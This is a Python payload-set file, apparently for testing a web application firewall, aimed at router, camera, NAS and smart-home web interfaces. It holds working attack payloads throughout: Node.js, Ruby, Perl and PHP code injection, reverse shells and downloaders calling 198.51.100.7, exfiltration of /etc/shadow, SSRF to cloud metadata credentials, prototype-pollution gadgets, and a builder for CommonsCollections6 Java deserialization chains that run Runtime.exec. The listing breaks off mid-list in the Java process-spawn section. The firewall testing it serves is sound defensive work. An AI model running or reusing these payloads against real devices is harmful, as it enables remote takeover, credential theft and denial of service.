"""Blind set "twohundredsixth": generic (Node.js, SSRF, prototype pollution, Ruby, Perl, DoS, PHP data: scheme),
Java and server-side template injection aimed at the web front ends of embedded and IoT devices, with benign
requests in which network and facilities engineers type the same words innocently.

The angle: embedded and IoT web interfaces, recalled from memory. Home and SOHO routers (goform handlers, apply.cgi,
luci, busybox underneath), IP cameras and NVRs, NAS boxes, printers, VPN and firewall appliances, smart-home hubs
(Node-RED, Homebridge, Zigbee2MQTT, Home Assistant), industrial HMIs, PLC gateways and building-management stations
(Java: Tridium Niagara, Ignition, UniFi Network Application, ManageEngine), set-top boxes, UPnP/SOAP and TR-069
endpoints, diagnostic pages (ping, traceroute, nslookup), firmware upload and backup/restore forms, and the
device-management apps and cloud portals that talk to them. Each payload uses the device family's own parameter
names and quirks (busybox telnetd, nvram, /etc/config, /mnt/mtd, snapshot and firmware URLs, ViewState, the
UniFi login's "remember" field) and is still a working attack on the target its list's comment names (Node.js,
the cloud instance metadata service, the device's loopback services, the browser, the Ruby or Perl interpreter,
PHP, the JVM, a Java deserializer, Log4j, an expression language, a template engine, a product).

Families (category generic): nodejs-injection, nodejs-dos, ssrf-cloud-metadata, ssrf-internal-ip,
  javascript-prototype-pollution, ruby-injection, perl-injection, php-data-scheme
Families (category java): java-class-names, java-process-spawn, java-serialization, deserialization-gadgets,
  log4shell, expression-language, polymorphic-deserialization (XStream, XMLDecoder, fastjson, Jackson,
  SnakeYAML), class-loading, jsp-upload
Families (category ssti, one per engine): jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars,
  pug, mako, tornado, nunjucks, ejs, pebble, razor, go-templates, liquid

Serialized Java streams are built by a small object-stream writer below (URLDNS and CommonsCollections6 graphs,
protocol 2, no back-references) and sent base64 (rO0AB), hex (aced0005), gzip+base64 (a JSF ViewState) or as the
raw bytes (percent-encoded on the wire); TemplatesImpl and defineClass payloads carry a minimal class file (a
static initializer that calls Runtime.exec) built the same way.

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. Parameter names on our routes are the device family's own
(ping_ip, snapshot_url, fw_url, javax.faces.ViewState, remember, devname, ssid, ...). Whole documents go as the
body they belong in (JSON for fastjson/Jackson/pollution documents, XML for XStream/XMLDecoder/SOAP, YAML for
SnakeYAML and Ruby YAML.load), `name=value` exploits (pollution keys, Spring4Shell, Solr and EJS options, Webmin)
as raw pairs, JSP shells as upload file names carrying the shell, raw serialized bytes only in the query or a
form body. Payloads that cannot ride a header (newlines, non-ASCII) never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family and of
the devices named, as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression
test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import gzip
import struct
from collections.abc import Iterator, Sequence
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "twohundredsixth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
YB = ("yaml-body", "rs-yaml-body")
XB = ("xml", "rs-xml")
QS = ("query", "rs-query")
FB = ("form", "rs-raw-body")
UP = ("multipart-filename", "rs-multipart-filename")
RAW: set[str] = set()   # `name=value` exploits sent unquoted


def kv(payload: str, places: tuple[str, str] = QS) -> tuple[str, str, str]:
    """A raw `name=value` exploit (query string or form body as the device's page parses it)."""
    RAW.add(payload)
    return (payload, *places)


def b64(text: str | bytes) -> str:
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


def latin(raw: bytes) -> str:
    """Raw bytes held as latin-1 text (percent-encoded byte for byte on the wire)."""
    return raw.decode("latin-1")


# ----------------------------------------------------------------------------------------------------------------
# A minimal Java object-stream writer (ObjectOutputStream protocol 2) and class-file builder
MAGIC = b"\xac\xed\x00\x05"
END, NUL = b"x", b"p"


def _utf(s: str) -> bytes:
    e = s.encode()
    return struct.pack(">H", len(e)) + e


def _desc(name: str, suid: int, flags: int, fields: Sequence[tuple[str, str, str]] = ()) -> bytes:
    """TC_CLASSDESC: name, serialVersionUID (its 64-bit pattern), flags, fields (type code, name, signature of
    object and array fields), no annotations, no serializable superclass."""
    out = b"r" + _utf(name) + struct.pack(">Q", suid) + bytes([flags]) + struct.pack(">H", len(fields))
    for code, fname, sig in fields:
        out += code.encode() + _utf(fname) + (b"t" + _utf(sig) if code in "L[" else b"")
    return out + END + NUL


def _obj(desc: bytes, *data: bytes) -> bytes:
    return b"s" + desc + b"".join(data)


def _str(s: str) -> bytes:
    return b"t" + _utf(s)


def _cls(desc: bytes) -> bytes:
    return b"v" + desc


def _arr(desc: bytes, items: Sequence[bytes]) -> bytes:
    return b"u" + desc + struct.pack(">i", len(items)) + b"".join(items)


def _block(data: bytes) -> bytes:
    return b"w" + bytes([len(data)]) + data


D_RUNTIME = _desc("java.lang.Runtime", 0, 0)
D_OBJECT = _desc("java.lang.Object", 0, 0)
D_STRING = _desc("java.lang.String", 0xA0F0A4387A3BB342, 2)
D_CLASSES = _desc("[Ljava.lang.Class;", 0xAB16D7AECBCD5A99, 2)
D_OBJECTS = _desc("[Ljava.lang.Object;", 0x90CE589F1073296C, 2)
D_TRANSFORMERS = _desc("[Lorg.apache.commons.collections.Transformer;", 0xBD562AF1D8341899, 2)
D_HASHMAP = _desc("java.util.HashMap", 0x0507DAC1C31660D1, 3, [("F", "loadFactor", ""), ("I", "threshold", "")])
S = "Ljava/lang/String;"
CC = "org.apache.commons.collections."


def urldns(host: str) -> bytes:
    """HashMap{java.net.URL -> String}: deserializing it re-hashes the URL, a DNS lookup of `host`."""
    url = _desc("java.net.URL", 0x962537361AFCE472, 3,
                [("I", "hashCode", ""), ("I", "port", ""), ("L", "authority", S), ("L", "file", S),
                 ("L", "host", S), ("L", "protocol", S), ("L", "ref", S)])
    key = _obj(url, struct.pack(">ii", -1, -1), _str(host), _str(""), _str(host), _str("http"), NUL, END)
    return MAGIC + _obj(D_HASHMAP, struct.pack(">fi", 0.75, 12), _block(struct.pack(">ii", 16, 1)), key,
                        _str("http://" + host), END)


def empty_map() -> bytes:
    """An empty HashMap: the probe a tester sends first to see whether the field is deserialized at all."""
    return MAGIC + _obj(D_HASHMAP, struct.pack(">fi", 0.75, 12), _block(struct.pack(">ii", 16, 0)), END)


def cc6(cmd: str) -> bytes:
    """CommonsCollections6: HashSet{TiedMapEntry(LazyMap(ChainedTransformer -> Runtime.exec(cmd)))}."""
    invoker = _desc(CC + "functors.InvokerTransformer", 0x87E8FF6B7B7CCE38, 2,
                    [("[", "iArgs", "[Ljava/lang/Object;"), ("L", "iMethodName", S),
                     ("[", "iParamTypes", "[Ljava/lang/Class;")])

    def inv(method: str, types: list[bytes], args: list[bytes]) -> bytes:
        return _obj(invoker, _arr(D_OBJECTS, args), _str(method), _arr(D_CLASSES, types))

    constant = _desc(CC + "functors.ConstantTransformer", 0x587690114102B194, 2,
                     [("L", "iConstant", "Ljava/lang/Object;")])
    chain = _obj(_desc(CC + "functors.ChainedTransformer", 0x30C797EC287A9704, 2,
                       [("[", "iTransformers", "[Lorg/apache/commons/collections/Transformer;")]),
                 _arr(D_TRANSFORMERS, [
                     _obj(constant, _cls(D_RUNTIME)),
                     inv("getMethod", [_cls(D_STRING), _cls(D_CLASSES)], [_str("getRuntime"), _arr(D_CLASSES, [])]),
                     inv("invoke", [_cls(D_OBJECT), _cls(D_OBJECTS)], [NUL, _arr(D_OBJECTS, [])]),
                     inv("exec", [_cls(D_STRING)], [_str(cmd)])]))
    inner = _obj(D_HASHMAP, struct.pack(">fi", 0.75, 12), _block(struct.pack(">ii", 16, 0)), END)
    lazy = _obj(_desc(CC + "map.LazyMap", 0x6EE594829E791094, 3,
                      [("L", "factory", "Lorg/apache/commons/collections/Transformer;")]), chain, inner, END)
    tied = _obj(_desc(CC + "keyvalue.TiedMapEntry", 0x8AADD29B39C11FDB, 2,
                      [("L", "key", "Ljava/lang/Object;"), ("L", "map", "Ljava/util/Map;")]), _str("k"), lazy)
    return MAGIC + _obj(_desc("java.util.HashSet", 0xBA44859596B8B734, 3),
                        _block(struct.pack(">ifi", 16, 0.75, 1)), tied, END)


def class_file(name: str, cmd: str, parent: str = "java/lang/Object") -> bytes:
    """A class file (version 49, no stack maps needed) whose static initializer runs Runtime.exec(cmd)."""
    pool = [
        b"\x01" + _utf(name), b"\x07\x00\x01", b"\x01" + _utf(parent), b"\x07\x00\x03",          # 1-4
        b"\x01" + _utf("<init>"), b"\x01" + _utf("()V"), b"\x01" + _utf("Code"),                 # 5-7
        b"\x0c\x00\x05\x00\x06", b"\x0a\x00\x04\x00\x08",                                          # 8-9
        b"\x01" + _utf("<clinit>"), b"\x01" + _utf("java/lang/Runtime"), b"\x07\x00\x0b",          # 10-12
        b"\x01" + _utf("getRuntime"), b"\x01" + _utf("()Ljava/lang/Runtime;"),                    # 13-14
        b"\x0c\x00\x0d\x00\x0e", b"\x0a\x00\x0c\x00\x0f",                                          # 15-16
        b"\x01" + _utf("exec"), b"\x01" + _utf("(Ljava/lang/String;)Ljava/lang/Process;"),        # 17-18
        b"\x0c\x00\x11\x00\x12", b"\x0a\x00\x0c\x00\x13", b"\x01" + _utf(cmd), b"\x08\x00\x15",   # 19-22
    ]

    def method(flags: int, name_ix: int, stack: int, locals_: int, code: bytes) -> bytes:
        attr = struct.pack(">HHI", stack, locals_, len(code)) + code + b"\x00\x00\x00\x00"
        return struct.pack(">HHHH", flags, name_ix, 6, 1) + struct.pack(">HI", 7, len(attr)) + attr

    init = method(0x0001, 5, 1, 1, b"\x2a\xb7\x00\x09\xb1")
    clinit = method(0x0008, 10, 2, 0, b"\xb8\x00\x10\x12\x16\xb6\x00\x14\x57\xb1")
    return (b"\xca\xfe\xba\xbe\x00\x00\x00\x31" + struct.pack(">H", len(pool) + 1) + b"".join(pool)
            + struct.pack(">HHHHH", 0x0021, 2, 4, 0, 0) + struct.pack(">H", 2) + init + clinit + b"\x00\x00")


TRANSLET = "com/sun/org/apache/xalan/internal/xsltc/runtime/AbstractTranslet"


def gz64(raw: bytes) -> str:
    return b64(gzip.compress(raw, mtime=0))


# ================================================================================================================
# generic
# ----------------------------------------------------------------------------------------------------------------
# nodejs-injection. Target: the Node.js runtime behind smart-home hubs and device portals (Node-RED function nodes,
# Homebridge Config UI X, Zigbee2MQTT, Express device-cloud APIs that eval a rule, formula or scaling expression).
NODE_INJECTION: list[Entry] = [
    # Node-RED function node body ("func"): the sandbox hands out process through the constructor chain
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "return [{payload: global.process.mainModule.require('child_process')"
    ".execSync('cat /data/flows_cred.json').toString()}];",
    # Homebridge plugin option evaluated by the plugin: persist a shell in the container's startup.sh
    "require('fs').appendFileSync('/homebridge/startup.sh','\\nbusybox telnetd -l /bin/sh -p 2323\\n')",
    # Zigbee2MQTT / hub rule engine: a device rule's condition string handed to eval()
    "eval(\"require('child_process').exec('busybox telnetd -l /bin/sh -p 2323')\")",
    "require('child_process').execSync('cat /app/data/configuration.yaml').toString()",
    # device-cloud Express API that builds a Function from the user's sensor-scaling formula
    "Function('return process')().mainModule.require('child_process').spawnSync('sh',['-c','id']).stdout.toString()",
    "new Function('return this.process.mainModule.require(\"child_process\").execSync(\"uname -a\")')()",
    "[].constructor.constructor('return process.env')()",
    # vm.runInNewContext sandbox of a hub's scripting feature: escape through the host object's constructor
    "require('vm').runInNewContext('this.constructor.constructor(\"return process\")()"
    ".mainModule.require(\"child_process\").execSync(\"id\").toString()')",
    # the portal splices the value into a string it evals: close the string, run, comment out the rest
    "';require('child_process').exec('reboot');//",
    "\"+global.process.mainModule.require('child_process').execSync('nvram show')+\"",
    "`+process.mainModule.require('child_process').execSync('cat /etc/passwd')+`",
    # node-serialize unserialize() of the portal's profile cookie (immediately invoked function marker)
    "_$$ND_FUNC$$_function(){require('child_process').exec('curl -s http://198.51.100.7/cam.sh|sh')}()",
    ('{"username":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()","country":"NL"}', *JB),
    # reverse shell from the hub to the tester
    "(function(){var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);"
    "var c=new net.Socket();c.connect(4444,'198.51.100.7',function(){c.pipe(sh.stdin);sh.stdout.pipe(c);"
    "sh.stderr.pipe(c);});return /a/;})()",
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['/bin/sh','-c','id'],"
    "stdio:[{type:'pipe',readable:!0,writable:!1},{type:'pipe',readable:!1,writable:!0}]}).output.toString()",
    # drop and run a bot binary built for the hub's ARM board
    "global.process.mainModule.constructor._load('child_process')"
    ".exec('wget http://198.51.100.7/arm7 -O /tmp/a; chmod 777 /tmp/a; /tmp/a')",
    "import('child_process').then(m=>m.execSync('killall -9 mosquitto'))",
    "require('http').get('http://198.51.100.7/?d='+require('fs').readFileSync('/etc/shadow','base64'))",
    "res.end(require('fs').readFileSync('/etc/passwd'))",
    "process.mainModule.require('child_process')"
    ".execFileSync('/bin/busybox',['nc','198.51.100.7','4444','-e','/bin/sh'])",
    "require('fs').writeFileSync('/root/.ssh/authorized_keys','ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB0t tester')",
]

# nodejs-dos. Target: the single-threaded Node.js event loop of hub and portal backends: code that never returns,
# allocations that exhaust the heap, and patterns with catastrophic backtracking where the portal builds a RegExp
# from the user's filter (device-name search, log filter, MAC allow-list pattern).
NODE_DOS: list[Entry] = [
    "while(true){}",
    "for(;;){}",
    "process.exit(1)",
    "process.kill(process.pid,'SIGKILL')",
    "process.abort()",
    "new Array(1e9).fill(0)",
    "'A'.repeat(2**29)",
    "Buffer.alloc(2**31-1)",
    "new Array(1e8).fill().map(()=>({t:Date.now(),v:Math.random()}))",
    "setInterval(()=>{global.x=(global.x||[]).concat(Array(1e6).fill('x'))},0)",
    "while(1){require('fs').openSync('/dev/null','r')}",
    "require('child_process').execSync('sleep 3600')",
    "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)),0,0)",
    "require('child_process').execSync(':(){ :|:& };:')",
    # user-supplied patterns for the device-name filter (exponential backtracking on a near-miss)
    "(a+)+$",
    "^(([a-z])+.)+[A-Z]([a-z])+$",
    "(.*a){25}",
    "(x+x+)+y",
    "^(\\w+\\s?)*$",
    "^([0-9A-Fa-f]{1,2}[:-]?)+$",
]

# ssrf-cloud-metadata. Target: the instance metadata service of the cloud VM that runs a device-management portal;
# the portal fetches a URL the device owner supplies (camera snapshot URL, firmware download URL, alarm webhook,
# TR-069 ACS URL, a thermostat's weather feed).
SSRF_METADATA: list[Entry] = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/latest/dynamic/instance-identity/document",
    "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/",
    "http://instance-data/latest/meta-data/iam/info",
    "http://169.254.170.2/v2/metadata",
    "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/project/attributes/ssh-keys?alt=text",
    "http://metadata/computeMetadata/v1beta1/instance/attributes/kube-env",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01"
    "&resource=https://management.azure.com/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/metadata/v1.json",
    "http://169.254.169.254/opc/v1/instance/",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    "http://metadata.tencentyun.com/latest/meta-data/",
    "http://169.254.169.254/hetzner/v1/metadata/private-networks",
    # the same address written so that a deny-list of "169.254.169.254" misses it
    "http://2852039166/latest/meta-data/iam/security-credentials/",
    "http://0xA9FEA9FE/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/user-data",
    "http://169.254.43518/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/security-credentials/",
    "http://[0:0:0:0:0:ffff:169.254.169.254]/metadata/v1.json",
    "http://snapshots.camcloud.example@169.254.169.254/latest/meta-data/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    # IMDSv2 needs a PUT with a header: gopher writes the whole request
    "gopher://169.254.169.254:80/_PUT%20/latest/api/token%20HTTP/1.1%0D%0AHost:%20169.254.169.254%0D%0A"
    "X-aws-ec2-metadata-token-ttl-seconds:%2021600%0D%0A%0D%0A",
]

# ssrf-internal-ip. Target: services on the device itself or on the LAN behind it, reached through a URL field the
# router, NAS or portal fetches (UPnP event callbacks, "test URL" and "download firmware from URL" buttons,
# remote syslog, webhook tests), plus file: reads of the device's own config.
SSRF_INTERNAL: list[Entry] = [
    "http://127.0.0.1:7547/",
    "http://127.0.0.1:5000/rootDesc.xml",
    "http://localhost:631/admin/conf/cupsd.conf",
    "http://127.1:8080/cgi-bin/luci/admin/system/flashops",
    "http://2130706433:5000/webman/index.cgi",
    "http://0x7f000001:8080/",
    "http://0177.0.0.1:8200/",
    "http://0/cgi-bin/luci",
    "http://[::1]:8443/",
    "http://[::]:22/",
    "http://[::ffff:7f00:1]:8123/api/states",
    "http://localhost.localdomain:10000/",
    "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460:8080/",
    "http://192.168.0.1/goform/SysToolReboot",
    "http://10.0.0.138:8291/",
    "file:///etc/config/network",
    "file:///mnt/mtd/Config/Account1",
    "file:///proc/self/environ",
    "file://localhost/etc/shadow",
    "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/etc/crontabs%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0A"
    "SET%20x%20%22%0A*/1%20*%20*%20*%20*%20busybox%20nc%20198.51.100.7%204444%20-e%20sh%0A%22%0D%0ASAVE%0D%0A",
    "gopher://127.0.0.1:80/_POST%20/cgi-bin/admin.cgi%20HTTP/1.1%0D%0AHost:%20127.0.0.1%0D%0A"
    "Content-Length:%2024%0D%0A%0D%0Aaction=reset&confirm=yes",
    "dict://127.0.0.1:6379/info",
    "dict://127.0.0.1:11211/stats",
    "tftp://192.168.1.1/running-config",
    "netdoc:///etc/shadow",
]

# javascript-prototype-pollution. Target: Node.js device portals (qs/body-parser feeding a recursive merge of
# device settings, then a child_process or template gadget) and the jQuery front ends of router admin pages
# (the browser, through a deparam of location.search).
POLLUTION: list[Entry] = [
    kv("__proto__[isAdmin]=true"),
    kv("__proto__.role=admin"),
    kv("constructor[prototype][isAdmin]=1"),
    kv("constructor.prototype.canFlashFirmware=true"),
    kv("wifi[__proto__][telnetEnabled]=1", FB),
    # child_process.spawn/fork gadget: every spawned process becomes node running the polluted code
    kv("__proto__[shell]=/proc/self/exe&__proto__[argv0]=console.log(require('child_process')"
       ".execSync('id').toString())//&__proto__[NODE_OPTIONS]=--require /proc/self/cmdline", FB),
    kv("__proto__[env][AAAA]=require('child_process').execSync('busybox telnetd -l /bin/sh')//"
       "&__proto__[env][NODE_OPTIONS]=--require /proc/self/environ", FB),
    # EJS and pug render gadgets
    kv("__proto__[outputFunctionName]=_tmp1;global.process.mainModule.require('child_process')"
       ".exec('id');var __tmp2", FB),
    kv("__proto__[block][type]=Text&__proto__[block][line]=process.mainModule.require('child_process')"
       ".execSync('id')", FB),
    # lodash.template sourceURL gadget: the newline ends the comment it is spliced into
    kv("__proto__[sourceURL]=\nreturn global.process.mainModule.require('child_process').execSync('id')//", FB),
    # router admin page (browser): jQuery gadgets reached through a polluted Object.prototype
    kv("__proto__[url][]=data:,alert(document.domain)//&__proto__[dataType]=script"),
    kv("__proto__[div][0]=1&__proto__[div][1]=<img src onerror=alert(document.cookie)>&__proto__[div][2]=1"),
    kv("__proto__[preventDefault]=x&__proto__[handleObj]=x&__proto__[delegateTarget]=<img/src/onerror=alert(1)>"),
    # JSON settings documents merged into the device record
    ('{"__proto__":{"isAdmin":true}}', *JB),
    ('{"constructor":{"prototype":{"isAdmin":true}}}', *JB),
    ('{"wifi":{"ssid":"home","__proto__":{"telnetd":true}}}', *JB),
    ('{"__proto__":{"json spaces":10}}', *JB),
    ('{"__proto__":{"exposedHeaders":["X-Polluted"]}}', *JB),
    ('{"__proto__":{"execArgv":["--eval=require(\'child_process\').execSync(\'id\')"]}}', *JB),
    ('{"__proto__":{"type":"Program","body":[{"type":"MustacheStatement","path":0,"params":[{"type":'
     '"NumberLiteral","value":"process.mainModule.require(\'child_process\').execSync(\'id\')"}],'
     '"loc":{"start":0,"end":0}}]}}', *JB),
]

# ruby-injection. Target: the Ruby interpreter of Rails device-fleet portals and provisioning servers (a device
# name spliced into eval or an ERB string, a backup file opened with Kernel#open, a config restore that runs
# YAML.load on the uploaded YAML).
RUBY: list[Entry] = [
    "#{`id`}",
    "#{system('cat /etc/passwd')}",
    "`busybox nc 198.51.100.7 4444 -e /bin/sh`",
    "%x(uname -a)",
    "\";system('reboot');\"",
    "Kernel.exec('/bin/sh -c id')",
    "eval(\"`cat /etc/shadow`\")",
    "send(:system, 'id')",
    "Object.const_get(:Kernel).public_send(:system, 'id')",
    "instance_eval(\"IO.popen('id').read\")",
    "IO.popen(['sh','-c','wget -qO- http://198.51.100.7/r.sh | sh']).read",
    "require 'open3'; Open3.capture2('id')[0]",
    # Kernel#open / open-uri on the "backup file" name: a leading pipe runs a command
    "|id",
    "|curl -s http://198.51.100.7/x.sh | sh",
    "| cat /etc/passwd > /tmp/p.txt",
    # ERB rendered by the portal's notification template
    "<%= IO.popen('cat /etc/passwd').readlines() %>",
    "<%= File.read('/app/config/master.key') %>",
    # YAML.load of a restored config (Psych before 4): the universal Gem gadget chains
    ("--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n  specs:\n"
     "  - !ruby/object:Gem::Source::SpecificFile\n    spec: &1 !ruby/object:Gem::StubSpecification\n"
     "      loaded_from: \"|id 1>&2\"\n  - !ruby/object:Gem::Source::SpecificFile\n      spec:\n", *YB),
    ("---\n- !ruby/object:Gem::Installer\n    i: x\n- !ruby/object:Gem::SpecFetcher\n    i: y\n"
     "- !ruby/object:Gem::Requirement\n  requirements:\n    !ruby/object:Gem::Package::TarReader\n"
     "    io: &1 !ruby/object:Net::BufferedIO\n      io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
     "         read: 0\n         header: \"abc\"\n      debug_output: &1 !ruby/object:Net::WriteAdapter\n"
     "         socket: &1 !ruby/object:Gem::RequestSet\n             sets: !ruby/object:Net::WriteAdapter\n"
     "                 socket: !ruby/module 'Kernel'\n                 method_id: :system\n"
     "             git_set: busybox telnetd -l /bin/sh -p 2323\n         method_id: :resolve\n", *YB),
    ("--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n"
     "? ! \"foo; system('id')\\n__END__\\n\"\n: !ruby/struct\n  defaults:\n    :action: create\n"
     "    :controller: foos\n  required_parts: []\n  requirements: {}\n  segment_keys: [:format]\n", *YB),
]

# perl-injection. Target: the Perl interpreter of appliance CGIs (Webmin/Virtualmin on NAS and firewall builds,
# IPFire and older UTM admin pages, Barracuda-style mail gateways, Perl CGIs behind lighttpd on set-top boxes):
# two-argument open() pipes, system/exec/qx, string eval.
PERL: list[Entry] = [
    "/bin/busybox id|",
    "cat /etc/shadow|",
    "|/usr/bin/nc 198.51.100.7 4444 -e /bin/sh",
    ";system('id');",
    "exec('/bin/sh -i')",
    "qx{cat /var/ipfire/main/settings}",
    "qx/uname -a/",
    "`/sbin/ifconfig -a`",
    "eval{system('id')}",
    "eval(pack('H*','73797374656d28276964272922'))",
    "@{[ system('id') ]}",
    "${\\ qx(id)}",
    "CORE::readpipe('id')",
    "CORE::system('/bin/sh','-c','cat /etc/passwd')",
    "open(my $f,'<','/etc/shadow');print <$f>;",
    "use Socket;$i=\"198.51.100.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};",
    "use LWP::Simple;getstore('http://198.51.100.7/b','/tmp/b');system('sh /tmp/b');",
    "require '/tmp/upload/backup.pl';",
    # Webmin password_change.cgi: the old password reaches a pipe open
    kv("user=root&pam=&expired=2&old=test|id&new1=test2&new2=test2", FB),
    # Barracuda-style attachment name handed to qx{} by the tar scanner
    ("'`echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh`'.tar", *UP),
]

# php-data-scheme. Target: PHP on NAS, router and firewall web UIs (pfSense/OPNsense, QNAP, TerraMaster, WD and
# Zyxel NAS pages with a ?page=, ?lang= or ?file= include): include() of a data: URL runs the PHP it carries.
PHP_DATA: list[Entry] = [
    "data://text/plain;base64," + b64("<?php system($_GET['cmd']); ?>"),
    "data://text/plain;base64," + b64("<?php passthru('cat /etc/shadow'); ?>"),
    "data://text/plain;base64," + b64("<?php echo shell_exec('cat /conf/config.xml'); ?>"),
    "data://text/plain;base64," + b64("<?php file_put_contents('/usr/local/www/x.php','<?php eval($_POST[1]);');"),
    "data://text/plain,<?php phpinfo(); ?>",
    "data:text/plain,<?php system('id'); ?>",
    "data://text/plain,<?=`cat /etc/config/qpkg.conf`?>",
    "data:;base64," + b64("<?php readfile('/etc/passwd'); ?>"),
    "data://image/jpeg;base64," + b64(b"\xff\xd8\xff\xe0<?php system('uname -a'); ?>"),
    "data://text/plain;charset=utf-8;base64," + b64("<?php exec('busybox telnetd -l /bin/sh -p 2323'); ?>"),
    "DATA://text/plain;base64," + b64("<?php @eval($_REQUEST['z']); ?>"),
    "data:text/plain;base64," + b64("<?=`$_GET[0]`?>"),
    "php://filter/resource=data://text/plain;base64," + b64("<?php system('id'); ?>"),
    "compress.zlib://data:,<?php system('ls -la /mnt/HD'); ?>",
    "data://text/plain;base64," + b64("<?php $s=fsockopen('198.51.100.7',4444);exec('/bin/sh -i <&3 >&3 2>&3');"),
    "data://text/plain;base64," + b64("<?php echo file_get_contents('/etc/shadow'); ?>"),
    "data:text/html;base64," + b64("<?php include('http://198.51.100.7/shell.txt'); ?>"),
    "data://text/plain," + "%3C%3Fphp%20system(%27id%27)%3B%20%3F%3E",
]

# ================================================================================================================
# java
# ----------------------------------------------------------------------------------------------------------------
# java-class-names. Target: the JVM behind Java device front ends (Ignition gateway scripting, Tridium Niagara
# program objects, UniFi Network Application, ManageEngine OpManager, JBoss/Tomcat-based NVR servers): script
# fields and expressions that reach Runtime, ProcessBuilder, ClassLoader, ScriptEngineManager by name.
JAVA_CLASSES: list[Entry] = [
    "java.lang.Runtime.getRuntime().exec(new String[]{\"/bin/sh\",\"-c\",\"cat /etc/shadow\"})",
    "Class.forName(\"java.lang.Runtime\").getMethod(\"exec\",String.class)"
    ".invoke(Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null),\"id\")",
    "java.lang.ClassLoader.getSystemClassLoader().loadClass(\"java.lang.Runtime\")"
    ".getMethod(\"getRuntime\").invoke(null).exec(\"id\")",
    "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\")"
    ".eval(\"java.lang.Runtime.getRuntime().exec('id')\")",
    "new javax.script.ScriptEngineManager().getEngineByName(\"js\")"
    ".eval(\"new java.lang.ProcessBuilder('sh','-c','id').start()\")",
    "Thread.currentThread().getContextClassLoader().loadClass(\"java.lang.ProcessBuilder\")",
    "java.lang.System.getenv()",
    "java.lang.System.setProperty(\"com.sun.jndi.ldap.object.trustURLCodebase\",\"true\")",
    "java.nio.file.Files.readAllLines(java.nio.file.Paths.get(\"/opt/niagara/stations/main/config.bog\"))",
    "new java.io.FileOutputStream(\"/opt/tomcat/webapps/ROOT/x.jsp\").write(\"<%=1%>\".getBytes())",
    "new javax.naming.InitialContext().lookup(\"ldap://198.51.100.7:1389/Exploit\")",
    "jdk.jshell.JShell.create().eval(\"Runtime.getRuntime().exec(\\\"id\\\")\")",
    "sun.misc.Unsafe.class.getDeclaredField(\"theUnsafe\")",
    "new groovy.lang.GroovyShell().evaluate(\"'id'.execute().text\")",
    "java.lang.reflect.Method m = Runtime.class.getMethod(\"exec\", String.class);"
    " m.invoke(Runtime.getRuntime(), \"id\");",
    # Ignition gateway script console (Jython with Java imports)
    "from java.lang import Runtime; Runtime.getRuntime().exec([\"/bin/sh\",\"-c\",\"id\"])",
    "import java.lang.ProcessBuilder as PB; PB([\"cat\",\"/usr/local/bin/ignition/data/db/config.idb\"]).start()",
    "new bsh.Interpreter().eval(\"Runtime.getRuntime().exec(\\\"id\\\")\")",
]

# java-process-spawn. Target: the JVM process spawning a shell on the appliance (Groovy/Nashorn/Jython script
# fields, Java helpers behind diagnostic pages), with the argument tricks Runtime.exec's tokenizer needs.
JAVA_SPAWN: list[Entry] = [
    "new java.lang.ProcessBuilder(new String[]{\"/bin/sh\",\"-c\",\"busybox telnetd -l /bin/sh -p 2323\"}).start()",
    "new ProcessBuilder(\"cmd.exe\",\"/c\",\"whoami /all\").start()",
    "new ProcessBuilder(\"/bin/sh\",\"-c\",\"nc 198.51.100.7 4444 -e /bin/sh\").redirectErrorStream(true).start()",
    "Runtime.getRuntime().exec(\"bash -c {echo,Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3guc2h8c2g=}|{base64,-d}|{bash,-i}\")",
    "Runtime.getRuntime().exec(\"/bin/sh -c $@|sh . echo cat /etc/passwd\")",
